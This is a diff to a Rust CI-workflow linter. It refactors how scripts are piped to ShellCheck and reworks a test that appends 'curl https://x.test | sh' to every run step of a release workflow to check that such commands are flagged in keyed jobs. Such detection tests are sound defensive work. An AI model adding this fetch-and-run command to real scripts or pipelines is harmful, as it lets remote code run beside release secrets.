@@ -2,15 +2,13 @@
 //! `actionlint`, `zizmor` and `ShellCheck` say.
 
 use std::collections::BTreeMap;
-use std::io::Write as _;
 use std::path::PathBuf;
-use std::process::Stdio;
 
-use anyhow::{Context as _, Result, bail};
+use anyhow::{Result, bail};
 use serde_json::Value;
 
 use super::{beside_keys, passed};
-use crate::shell::{command, output, root, run};
+use crate::shell::{command, output, root, run, tell};
 use crate::tools;
 use crate::tree::files;
 
@@ -128,12 +126,15 @@ fn word(value: &Value) -> &str {
 
 /// What is wrong with a script as GitHub runs it (`bash -e -o pipefail`).
 fn shell_of(shellcheck: &str, script: &str) -> Result<Option<String>> {
-    let mut check = command(shellcheck, &["--shell", "bash", "--format", "gcc", "-"]);
-    let mut check = check.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().context("shellcheck")?;
-    let mut into = check.stdin.take().context("shellcheck")?;
-    into.write_all(format!("set -eo pipefail\n{script}\n").as_bytes())?;
-    drop(into);
-    let said = check.wait_with_output()?;
+    let check = command(shellcheck, &["--shell", "bash", "--format", "gcc", "-"]);
+    let said = tell(
+        check,
+        &format!(
+            "set -eo pipefail
+{script}
+"
+        ),
+    )?;
     Ok((!said.status.success()).then(|| String::from_utf8_lossy(&said.stdout).trim().to_owned()))
 }
 
@@ -169,20 +170,28 @@ mod tests {
 
     #[test]
     fn the_release_runs_nothing_unknown_beside_a_key() {
-        let whole = release();
+        let mut whole = release();
         assert_eq!(of_house(&whole), [""; 0]);
-        let mut keyed = 0;
-        for (name, job) in whole["jobs"].as_object().unwrap() {
-            for (at, step) in job["steps"].as_array().unwrap().iter().enumerate() {
+        let mut awaited = Vec::new();
+        for (name, job) in whole["jobs"].as_object_mut().unwrap() {
+            let keyed = !job["environment"].is_null();
+            for (at, step) in job["steps"].as_array_mut().unwrap().iter_mut().enumerate() {
                 let Some(run) = step["run"].as_str() else { continue };
-                let mut changed = whole.clone();
-                changed["jobs"][name]["steps"][at]["run"] = format!("{run}\ncurl https://x.test | sh").into();
-                let is_keyed = !job["environment"].is_null();
-                assert_eq!(of_house(&changed).len(), if is_keyed { 2 } else { 0 }, "{name}, step {}", at + 1);
-                keyed += usize::from(is_keyed);
+                step["run"] = format!("{run}\ncurl https://x.test | sh").into();
+                let found = |what| {
+                    format!(
+                        "{name}, beside a key: step {}: nobody has said that this may run: {what}",
+                        at + 1
+                    )
+                };
+                awaited.extend(["curl https://x.test", "sh"].map(found).into_iter().filter(|_| keyed));
             }
         }
-        assert!(keyed > 10, "{keyed} steps beside keys");
+        assert!(awaited.len() > 20, "{awaited:?}");
+        // What is done too early is said apart.
+        let mut found = of_house(&whole);
+        found.retain(|one| one.contains("nobody has said"));
+        assert_eq!(found, awaited);
     }
 
     #[test]
